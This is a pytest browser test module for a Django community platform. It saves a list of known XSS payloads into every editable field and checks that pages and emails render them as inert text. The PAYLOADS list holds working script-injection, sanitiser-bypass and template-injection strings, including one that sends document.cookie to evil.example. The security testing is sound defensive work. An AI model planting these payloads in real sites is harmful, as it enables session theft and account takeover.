"""Stored XSS: a corpus of known payloads saved into the text people edit, then every page
that shows them opened in chromium. No dialog may open, no Content-Security-Policy
violation may fire, no element may carry an event handler or a javascript: address, and
the plain-text fields show the payload as text (escaped, not run).

Payloads are batched: each long text field gets the whole corpus, each short field as
many as fit (rotating, so every payload lands in short fields too), so a page shows many
payloads at once and the journey stays well under two minutes.
"""

from datetime import timedelta

import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone

from conftest import make_user

# Escaping is the templates' and the browser's business, whatever database holds the text.
pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.same_on_every_database,
]

# Known XSS payloads: script tags, event handlers, javascript: URLs, SVG/MathML,
# attribute and element breakouts, template injection, Markdown and sanitiser bypasses.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>confirm`1`</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=prompt(1)//",
    '<img src="x" onerror="&#97;lert(1)">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<a href=javascript:alert(1)>click</a>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "<style>@import 'javascript:alert(1)';</style>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}{% debug %}{{ request.user.password }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[link][a]",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<div hx-get="/logout" hx-trigger="load">htmx</div>',
    '<a href="#" hx-on:click="alert(1)">htmx on</a>',
    "<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">",
    "\u2028<script>alert(1)</script>\u2029",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
assert len(PAYLOADS) >= 50
CORPUS = "\n\n".join(PAYLOADS)
# Shown, escaped, in every plain-text title we fill in.
MARK = '"><svg onload=alert(1)>'


def short(max_length: int, start: int) -> str:
    """MARK and as many payloads as fit in `max_length`, starting from payload `start`."""
    text = MARK
    for offset in range(len(PAYLOADS)):
        payload = PAYLOADS[(start + offset) % len(PAYLOADS)]
        if len(text) + 1 + len(payload) > max_length:
            continue
        text += " " + payload
    return text


def long(max_length: int) -> str:
    return CORPUS[:max_length]


HOOKS = """
window.__xss = {dialogs: [], violations: []};
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__xss.dialogs.push(name + "(" + args.join(",") + ")"); };
}
document.addEventListener("securitypolicyviolation", (event) => {
  window.__xss.violations.push(
    event.violatedDirective + " " + event.blockedURI + " " + (event.sample || "")
  );
}, true);
"""

# What the DOM must not contain once the page has run: handlers, script addresses and
# elements that only injected text could have put there.
DOM_CHECK = """
() => {
  const found = [];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\s\\x00-\\x1f]/g, "").toLowerCase();
      if (name.startsWith("on") || name.startsWith("hx-on")) found.push(el.tagName + "[" + name + "]");
      if (["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"].includes(name)
          && (value.startsWith("javascript:") || value.startsWith("data:text/html")
              || name === "srcdoc")) {
        found.push(el.tagName + "[" + name + "=" + attr.value + "]");
      }
    }
  }
  for (const el of document.querySelectorAll("script")) {
    const type = (el.type || "").toLowerCase();
    const data = type === "application/json" || type === "application/ld+json";
    if (!data && !(el.src && new URL(el.src).origin === location.origin)) {
      found.push("script " + (el.src || el.textContent.slice(0, 60)));
    }
  }
  for (const tag of ["iframe", "object", "embed", "base", "meta[http-equiv]", "math",
                     "form[action^='javascript']", "template", "marquee", "details[ontoggle]"]) {
    for (const el of document.querySelectorAll("main " + tag)) found.push("main " + tag);
  }
  return found;
}
"""


@pytest.fixture
def stored(db):
    """Demo-like data with the payloads in every text field people edit, saved through
    the services the forms call (the ORM where the field is set by an admin or a form
    without a service)."""
    from creativetracks.ambassadors import services as ambassadors
    from creativetracks.ambassadors.models import Region
    from creativetracks.challenges.models import Prize
    from creativetracks.challenges.tests.conftest import make_challenge, make_entry
    from creativetracks.core.models import Partner
    from creativetracks.events import services as events
    from creativetracks.events.models import Event, Session, Speaker
    from creativetracks.labs import services as labs
    from creativetracks.labs.tests.conftest import make_lab
    from creativetracks.mentoring import services as mentoring
    from creativetracks.messaging import services as messaging
    from creativetracks.networks import services as networks
    from creativetracks.opportunities import services as opportunities
    from creativetracks.opportunities.tests.conftest import opportunity_data
    from creativetracks.profiles import services as profiles
    from creativetracks.profiles.models import PortfolioItem
    from creativetracks.resources import services as resources
    from creativetracks.resources.tests.conftest import resource_data
    from creativetracks.social.tests.builders import connect

    author = make_user("xss-author@example.org", display_name="Xavier Author")
    reader = make_user("xss-reader@example.org", display_name="Rita Reader")
    staff = make_user("xss-staff@example.org", is_staff=True, is_superuser=True)
    connect(author, reader)

    profile = author.profile
    profile.display_name = short(120, 0)
    profile.headline = short(160, 3)
    profile.city = short(120, 6)
    profile.bio = long(3000)
    profile.offers_text = long(1000)
    profile.needs_text = long(1000)
    profile.visibility = "public"
    profile.country = "PT"
    profile.save()
    PortfolioItem.objects.create(
        profile=profile, title=short(160, 9), description=long(3000), link="https://example.org"
    )
    organisation = profiles.create_organisation(
        author,
        {
            "name": short(200, 12),
            "kind": "collective",
            "country": "PT",
            "sectors": [],
            "description": long(5000),
            "website": "",
        },
    )
    organisation.city = short(120, 14)
    organisation.save()

    network = networks.create_network(
        author,
        {"name": short(160, 15), "join_policy": "open", "listing": "public"},
    )
    network.description = long(5000)
    network.save()
    thread = networks.start_thread(author, network=network, title=short(200, 18), body=CORPUS)
    networks.post_reply(author, thread, CORPUS)

    lab = make_lab(author, title=short(160, 21))
    lab.summary = short(lab._meta.get_field("summary").max_length, 24)
    lab.description = long(10000)
    lab.save()
    labs.post_comment(reader, lab, long(5000))
    labs.post_update(author, lab, long(5000))
    labs.add_poll(author, lab, question=short(300, 27), options=[short(200, 30), short(200, 33)])

    partner = Partner.objects.create(
        name=short(200, 36), slug="xss-partner", country="PT", summary=short(300, 38)
    )
    partner.description = long(5000)
    partner.contribution = long(5000)
    partner.save()
    partner.staff.add(staff)
    start = timezone.now() + timedelta(days=10)
    event = Event.objects.create(
        title=short(200, 40),
        slug=events.unique_slug("xss event"),
        subtitle=short(300, 42),
        description=long(10000),
        visibility="public",
        start=start,
        end=start + timedelta(hours=3),
        venue_name=short(200, 44),
        address=short(300, 46),
        city=short(120, 48),
        country="PT",
        capacity=20,
        organiser_organisation=organisation,
    )
    Speaker.objects.create(
        event=event, name=short(160, 50), affiliation=short(200, 52), bio=long(3000)
    )
    Session.objects.create(
        event=event,
        title=short(200, 54),
        description=long(5000),
        room=short(120, 56),
        track=short(120, 58),
        start=start,
        end=start + timedelta(hours=1),
    )

    opportunity = opportunities.submit_opportunity(
        staff,
        opportunity_data(title=short(200, 60), organiser=short(200, 62), description=long(10000)),
    )
    resource = resources.publish_resource(
        staff, resource_data(title=short(200, 1), summary=long(3000), author=short(200, 4))
    )

    challenge = make_challenge(
        partner, "open", title=short(200, 7), summary=short(300, 10), brief=long(20000)
    )
    challenge.rules = long(10000)
    challenge.save()
    Prize.objects.create(challenge=challenge, title=short(160, 13), description=short(500, 16))
    entry = make_entry(challenge, author, state="draft", title=short(200, 19))
    entry.summary = short(500, 22)
    entry.description = long(20000)
    entry.represents = short(200, 25)
    entry.save()

    conversation = messaging.start_conversation(author, [reader], long(5000))
    conversation.title = short(120, 28)
    conversation.save()
    messaging.send_message(reader, conversation, CORPUS[:5000])

    region = Region.objects.create(
        name=short(120, 31), slug="xss-region", countries=["PT"], description=long(3000)
    )
    ambassadors.appoint_ambassador(author, region, message=long(1000))

    mentoring_partner = Partner.objects.create(
        name="XSS Mentoring", slug="xss-mentoring", country="PT", summary="x"
    )
    mentoring_partner.staff.add(staff)
    now = timezone.now()
    programme = mentoring.create_programme(
        staff,
        {
            "title": short(200, 34),
            "description": long(10000),
            "languages": ["en"],
            "sectors": [],
            "partner": mentoring_partner,
            "network": None,
            "applications_open": now - timedelta(days=1),
            "applications_close": now + timedelta(days=10),
            "mentorship_weeks": 8,
            "cohort_count": 1,
            "visibility": "public",
        },
    )
    profile.languages = ["en"]
    profile.save()
    reader.profile.languages = ["en"]
    reader.profile.save()
    mentoring.apply_as_mentor(
        reader,
        programme,
        {"expertise": ["funding"], "languages": ["en"], "capacity": 2, "sectors": []},
    )
    mentoring.apply_as_mentee(author, programme, {"goals": long(3000), "languages": ["en"]})
    cohort = programme.cohorts.get()
    mentoring.run_matching(staff, cohort)
    mentoring.publish_matches(staff, cohort)
    pair = cohort.pairs.get()
    mentoring.set_goals(author, pair, short(3000, 37) + "\n\n" + long(2500))
    mentoring.add_log_entry(author, pair, long(5000))
    mentoring.add_private_note(author, pair, long(5000))

    # Organisers' pages: a registration with its answer, a request to join the lab, a
    # network member; a report moderators read; a message to the region's ambassador.
    from creativetracks.events.models import Question
    from creativetracks.moderation import services as moderation

    question = Question.objects.create(event=event, label=short(300, 5), kind="text")
    events.register_for_event(reader, event, {str(question.pk): long(2000)})
    filed = moderation.report_content(reader, "lab", lab, reason="spam", note=long(2000))
    ambassadors.contact_ambassadors(
        reader, name=short(120, 8), email="xss-reader@example.org", country="PT", body=long(2000)
    )
    labs.ask_to_join(reader, lab, note=long(1000))
    networks.join_network(reader, network)

    # B2B meetings: both in the marketplace of another event, a request between them.
    from creativetracks.meetings import services as meetings
    from creativetracks.meetings.tests.factories import make_matchmaking, make_organiser

    organiser = make_organiser("xss-organiser@example.org")
    matchmaking = make_matchmaking(organiser)
    pitch = {"offers": ["co-production"], "seeks": ["distribution"], "sectors": ["music"]}
    for person in (author, reader):
        events.register_for_event(person, matchmaking.event)
        meetings.join_marketplace(
            person, matchmaking, {**pitch, "pitch": long(600), "languages": ["en"]}
        )
    reader_entry = reader.marketplace_entries.get(matchmaking=matchmaking)
    meeting_request = meetings.request_meeting(
        author, matchmaking, reader_entry, long(1000), priority=1
    )
    meetings.answer_request(reader, meeting_request, accept=True)
    meetings_url = f"/events/{matchmaking.event.slug}/meetings/"
    manage_url = f"/events/{matchmaking.event.slug}/manage/meetings/"

    pages = {
        author: [
            profile.get_absolute_url(),
            "/directory/",
            organisation.get_absolute_url(),
            network.get_absolute_url(),
            "/networks/",
            f"/networks/discussions/{thread.pk}/",
            lab.get_absolute_url(),
            "/labs/",
            event.get_absolute_url(),
            "/events/",
            opportunity.get_absolute_url(),
            "/opportunities/",
            resource.get_absolute_url(),
            "/resources/",
            challenge.get_absolute_url(),
            "/challenges/",
            f"{challenge.get_absolute_url()}entries/{entry.pk}/",
            f"/messages/{conversation.pk}/",
            "/messages/",
            partner.get_absolute_url(),
            region.get_absolute_url(),
            "/ambassadors/",
            "/",
            "/feed/",
            programme.get_absolute_url(),
            "/mentoring/",
            f"/mentoring/pairs/{pair.pk}/",
            f"/events/{event.slug}/manage/",
            f"/events/{event.slug}/manage/stats/",
            "/ambassadors/dashboard/",
            f"/networks/{network.slug}/manage/",
            f"/networks/{network.slug}/members/",
            meetings_url,
            f"{meetings_url}people/{reader_entry.pk}/",
            f"{meetings_url}requests/",
        ],
        reader: [f"{meetings_url}requests/"],
        organiser: [manage_url, f"{manage_url}grid/"],
        staff: [
            "/moderation/",
            f"/moderation/reports/{filed.pk}/",
            f"{challenge.get_absolute_url()}entries/",
            f"{challenge.get_absolute_url()}jury/",
            "/opportunities/review/",
            f"{programme.get_absolute_url()}review/",
            "/admin/profiles/profile/",
            f"/admin/profiles/profile/{profile.pk}/change/",
            "/admin/labs/lab/",
            f"/admin/labs/lab/{lab.pk}/change/",
        ],
    }
    return pages


def open_pages(browser, live_server, user, paths, screenshot_dir):
    client = Client()
    client.force_login(user)
    context = browser.new_context(viewport={"width": 1100, "height": 900})
    context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": live_server.url,
            }
        ]
    )
    context.add_init_script(HOOKS)
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    problems = []
    for number, path in enumerate(paths):
        response = page.goto(live_server.url + path, wait_until="load")
        assert response.status < 400, (path, response.status)
        page.wait_for_timeout(150)  # let autofocus, load and toggle handlers fire
        recorded = page.evaluate("window.__xss")
        found = page.evaluate(DOM_CHECK)
        text = page.inner_text("body")
        if recorded["dialogs"] or dialogs:
            problems.append(f"{path}: dialogs {recorded['dialogs'] + dialogs}")
        if recorded["violations"]:
            problems.append(f"{path}: CSP violations {recorded['violations'][:5]}")
        if found:
            problems.append(f"{path}: injected {sorted(set(found))[:8]}")
        # The admin's change forms show the payloads in inputs, which are not body text.
        if MARK not in text and not path.endswith("/change/"):
            problems.append(f"{path}: the payload is not shown as text")
        dialogs.clear()
        if number == 0:
            page.screenshot(path=screenshot_dir / f"{user.pk}-first-page.png", full_page=False)
    context.close()
    return problems


def test_stored_payloads_never_run(browser, live_server, stored, screenshot_dir):
    problems = []
    for user, paths in stored.items():
        problems += open_pages(browser, live_server, user, paths, screenshot_dir)
    assert not problems, "\n".join(problems)


def serve(html: str):
    def fulfil(route, request):
        route.fulfill(status=200, content_type="text/html; charset=utf-8", body=html)

    return fulfil


def test_emails_carrying_the_payloads_never_run(browser, live_server, stored):
    """The emails the journey queued (new messages, requests, replies...) opened as a mail
    client would show their HTML: without the site's CSP, so escaping alone must hold."""
    from creativetracks.notifications.models import OutboxEmail

    emails = list(OutboxEmail.objects.exclude(body_html=""))
    assert len(emails) >= 5, [e.kind for e in emails]
    context = browser.new_context()
    context.add_init_script(HOOKS)
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    problems = []
    for email in emails:
        address = f"{live_server.url}/__email/{email.pk}"
        page.route(address, serve(email.body_html))
        page.goto(address, wait_until="load")
        page.wait_for_timeout(100)
        recorded = page.evaluate("window.__xss")
        found = page.evaluate(DOM_CHECK.replace('"main " + tag', "tag"))
        if recorded["dialogs"] or dialogs:
            problems.append(f"{email.kind}: dialogs {recorded['dialogs'] + dialogs}")
        if found:
            problems.append(f"{email.kind}: injected {sorted(set(found))[:8]}")
        dialogs.clear()
    context.close()
    assert any(MARK in email.body_text for email in emails)
    assert not problems, "\n".join(problems)
